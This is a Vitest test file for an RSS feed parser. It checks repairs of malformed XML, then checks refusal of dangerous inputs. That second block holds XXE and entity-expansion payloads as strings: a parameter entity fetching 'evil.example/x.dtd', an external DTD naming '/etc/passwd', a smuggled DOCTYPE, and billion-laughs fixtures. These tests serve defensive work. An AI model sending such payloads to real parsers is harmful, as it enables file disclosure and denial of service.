import { describe, expect, it } from 'vitest';
import { parseFeed } from '../../src/ingest/parse.ts';
import { FeedParseError } from '../../src/ingest/types.ts';
import { FEED_URL, NOW, parseFixture } from './load.ts';

const bytes = (text: string) => new TextEncoder().encode(text);

describe('recovering ill-formed feeds', () => {
  it('skips junk before the root and after its end, saying so', () => {
    const feed = parseFixture('junk-before-root.xml');
    expect(feed.items.map((i) => i.title)).toEqual(['Still readable']);
    expect(repairWarnings(feed)).toEqual([
      'skipped whitespace before the XML declaration',
      expect.stringMatching(/^skipped \d+ characters of stray text and markup before the root element$/),
      'dropped text after the end of the root element',
    ]);
  });

  it('escapes bare ampersands in text, links and attributes', () => {
    const feed = parseFixture('unescaped-ampersands.xml');
    expect(feed.title).toBe('Tom & Jerry News');
    const item = feed.items[0]!;
    expect(item.title).toBe('Salt & pepper: R&D at AT&T');
    expect(item.url).toBe('https://tj.example.com/story?id=1&page=2');
    expect(item.image).toBe('https://tj.example.com/img.jpg?w=600&h=400');
    expect(item.summary).toBe('Fish & chips & more.');
    expect(repairWarnings(feed)).toEqual(["escaped 8 bare '&' character(s) that started no entity"]);
  });

  it('decodes HTML entities undeclared in XML and keeps unknown ones as text', () => {
    const feed = parseFixture('html-entities.xml');
    expect(feed.title).toBe('Entité News');
    // &nbsp; decodes to U+00A0, which whitespace collapsing then turns into a plain space.
    expect(feed.items[0]!.title).toBe('Café culture — a primer…');
    expect(feed.items[0]!.summary).toBe('It’s here & now. Unknown: &bogus; end.');
    expect(repairWarnings(feed)).toEqual([
      'decoded HTML entities that XML does not declare: &eacute; &nbsp; &mdash; &hellip; &rsquo;',
      'kept unknown entities as plain text: &bogus;',
    ]);
  });

  it('keeps the complete items of a truncated document and drops the cut one', () => {
    const feed = parseFixture('truncated.xml');
    expect(feed.items.map((i) => i.title)).toEqual(['Complete one', 'Complete two']);
    expect(repairWarnings(feed)).toEqual([
      'the document is cut off: dropped the incomplete last <item>',
      'the document ends early: closed 2 element(s) left open',
    ]);
  });

  it('balances unclosed and stray tags, keeping raw HTML in descriptions', () => {
    const feed = parseFixture('unclosed-tags.xml');
    expect(feed.items.map((i) => i.title)).toEqual(['Raw HTML', 'Last item, closing tags lost']);
    expect(feed.items[0]!.contentHtml).toBe('Line one<br />line <b>two</b>');
    expect(feed.items[0]!.categories).toEqual(['Misc']);
    expect(repairWarnings(feed)).toEqual([
      'dropped a stray closing tag </p>',
      'closed an unclosed <category>',
      'the document ends early: closed 3 element(s) left open',
    ]);
  });

  it('drops an item cut inside a tag', () => {
    const feed = parseFeed(bytes('<rss><channel><title>x</title><item><title>a</title></item><item><title>b</title><link href="ht'), { url: FEED_URL, now: NOW });
    expect(feed.items.map((i) => i.title)).toEqual(['a']);
  });

  it('keeps CDATA sections verbatim while repairing around them', () => {
    const feed = parseFeed(
      bytes('<rss><channel><item><title>A & B</title><description><![CDATA[<p>x &amp; y &nbsp;z</p>]]> &amp; more</description></item></channel></rss>'),
      { url: FEED_URL, now: NOW },
    );
    // Inside CDATA, &amp; and &nbsp; are HTML for the HTML layer, not XML; they decode once, there.
    expect(feed.items[0]!.summary).toBe('x & y z & more');
    expect(feed.items[0]!.contentHtml).toBe('<p>x &amp; y \u00a0z</p> &amp; more');
  });
});

describe('refusing dangerous documents', () => {
  it('refuses the billion laughs quickly, in bounded memory', () => {
    const before = process.memoryUsage().heapUsed;
    const started = performance.now();
    expect(() => parseFixture('billion-laughs.xml')).toThrow(
      new FeedParseError('refused: the feed declares XML entities (possible entity-expansion or external-entity attack)'),
    );
    expect(performance.now() - started).toBeLessThan(200);
    expect(process.memoryUsage().heapUsed - before).toBeLessThan(20 * 1024 * 1024);
  });

  it('refuses an external entity (XXE) without reading the file', () => {
    expect(() => parseFixture('xxe.xml')).toThrow(/^refused: the feed declares XML entities/);
  });

  it('refuses parameter entities and external DTDs other than Netscape RSS 0.91', () => {
    const parameter = '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % dtd SYSTEM "http://evil.example/x.dtd"> %dtd;]><rss/>';
    expect(() => parseFeed(bytes(parameter), { url: FEED_URL })).toThrow(/declares XML entities/);
    const external = '<?xml version="1.0"?><!DOCTYPE rss SYSTEM "file:///etc/passwd"><rss version="2.0"><channel/></rss>';
    expect(() => parseFeed(bytes(external), { url: FEED_URL })).toThrow('refused: the feed points to an external DTD (possible external-entity attack)');
  });

  it('refuses a DOCTYPE smuggled inside the document body', () => {
    const smuggled = '<rss version="2.0"><channel><!DOCTYPE x [<!ENTITY a "aaaa">]><title>&a;</title></channel></rss>';
    expect(() => parseFeed(bytes(smuggled), { url: FEED_URL })).toThrow(/declares XML entities/);
  });

  it('refuses documents over the 10 MB parsing cap', () => {
    const huge = new Uint8Array(10 * 1024 * 1024 + 1).fill(0x20);
    expect(() => parseFeed(huge, { url: FEED_URL })).toThrow(/^refused: the feed is 10\.0 MB, over the 10 MB limit$/);
  });

  it('parses a large ordinary feed in reasonable time', () => {
    const item = (n: number) => `<item><title>Item ${n} &amp; more</title><link>https://big.example/${n}?utm_source=x</link><description>&lt;p&gt;Body ${n} ${'word '.repeat(60)}&lt;/p&gt;</description><pubDate>Wed, 18 Nov 2026 10:00:00 GMT</pubDate></item>`;
    const xml = `<rss version="2.0"><channel><title>Big</title>${Array.from({ length: 3000 }, (_, n) => item(n)).join('')}</channel></rss>`;
    const started = performance.now();
    const feed = parseFeed(bytes(xml), { url: FEED_URL, now: NOW });
    expect(feed.items).toHaveLength(3000);
    expect(feed.items[2999]!.url).toBe('https://big.example/2999');
    expect(performance.now() - started).toBeLessThan(10_000);
  });
});

/** What the XML repair said; these fixtures have no dates, which is said too and tested in date.test.ts. */
function repairWarnings(feed: { warnings: string[] }): string[] {
  return feed.warnings.filter((warning) => !warning.includes('no readable date'));
}

// repairXml copies what needs no repair as whole spans of its input (issue 15): a fix in one place must leave the
// text around it exactly as it came, and a document needing none comes back as it is.
describe('the XML repair around its fixes', () => {
  const RSS = '<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel><title>T</title>' +
    '<item><title>A &amp; B</title><dc:creator>Ann</dc:creator><description><![CDATA[<p>x</p>]]></description></item>' +
    '<item><title>C</title><link>https://e.example/c?a=1&amp;b=2</link></item></channel></rss>';

  it('returns a document that needs nothing unchanged', async () => {
    const { repairXml } = await import('../../src/ingest/formats/xml-repair.ts');
    const warnings: string[] = [];
    expect(repairXml(RSS, [], warnings)).toBe(RSS);
    expect(warnings).toEqual([]);
  });

  it('changes only what it fixes: a bare ampersand, a renamed prefix, a stray close tag, an unclosed element', async () => {
    const { repairXml } = await import('../../src/ingest/formats/xml-repair.ts');
    const broken = RSS.replace('A &amp; B', 'A & B').replaceAll('dc:', 'x:').replace('xmlns:dc', 'xmlns:x')
      .replace('<title>C</title>', '<title>C</title><guid>c').replace('<item><title>C', '</p><item><title>C');
    const repaired = repairXml(broken, [], []);
    expect(repaired).toBe(RSS.replace('xmlns:dc', 'xmlns:x').replace('<title>C</title>', '<title>C</title><guid>c')
      .replace('</link></item>', '</link></guid></item>'));
  });
});
